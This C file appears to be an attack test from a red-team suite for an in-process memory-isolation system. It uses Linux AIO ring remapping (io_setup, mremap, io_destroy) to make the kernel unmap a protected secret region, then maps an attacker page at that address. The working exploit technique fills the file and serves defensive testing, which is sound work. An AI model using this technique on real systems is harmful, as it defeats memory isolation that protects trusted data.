/* SPDX-License-Identifier: MIT */
/* atk_aio_unmap.c: the kernel unmaps trusted memory for untrusted code.
 * io_setup maps an AIO ring and records its address and size; mremap of
 * the ring moves the recorded address along but keeps the size, so a ring
 * shrunk and moved to end just below the secret makes io_destroy unmap the
 * secret too -- no call names it (red team 34b, atk34b_aio_unmap).
 * MAP_FIXED_NOREPLACE then puts the attacker's page where the secret was.
 * SUCCEEDED when that page is mapped at the secret's address.  erim-tem
 * judges io_destroy on its result: the mappings overlapping trusted or
 * frozen memory are compared before and after, and the process is stopped
 * (tem_kunmap.c). */
#include <linux/aio_abi.h>

#include "atk_common.h"

static size_t ring_len(uint64_t at)
{
	FILE *m = fopen("/proc/self/maps", "r");
	char line[512];
	unsigned long a, b;
	size_t len = 0;

	while (m && fgets(line, sizeof line, m))
		if (sscanf(line, "%lx-%lx", &a, &b) == 2 && a == at)
			len = b - a;
	if (m)
		fclose(m);
	return len;
}

static enum atk_result atk_attack(void)
{
	aio_context_t ctx = 0;
	uint8_t *ring, *aside, *p;
	size_t len;

	if (syscall(SYS_io_setup, 100UL, &ctx) != 0) {
		atk_say("io_setup: %s", strerror(errno));
		return ATK_NA;
	}
	len = ring_len(ctx);
	if (len <= ATK_SECRET_LEN)
		return ATK_ERROR;
	/* aside first (the kernel may have put the ring where it must go) */
	aside = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	ring = aside == MAP_FAILED ? MAP_FAILED
	     : mremap((void *)ctx, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, aside);
	if (ring == MAP_FAILED) {
		atk_say("mremap of the ring: %s", strerror(errno));
		return ATK_REFUSED;
	}
	p = mremap(ring, len, len - ATK_SECRET_LEN, MREMAP_MAYMOVE | MREMAP_FIXED, atk_secret - (len - ATK_SECRET_LEN));
	if (p == MAP_FAILED) {
		atk_say("mremap of the ring below the secret: %s", strerror(errno));
		return ATK_REFUSED;
	}
	atk_say("ring of %zu pages shrunk and moved to end at the secret (%p)", len / 4096, (void *)atk_secret);
	errno = 0;
	atk_say("io_destroy: %ld (%s)", (long)syscall(SYS_io_destroy, (aio_context_t)p), strerror(errno));
	return atk_take_secret_address("io_destroy unmapped the secret");
}

static const char *atk_name = "atk_aio_unmap";
static int atk_needs_pku = 0;
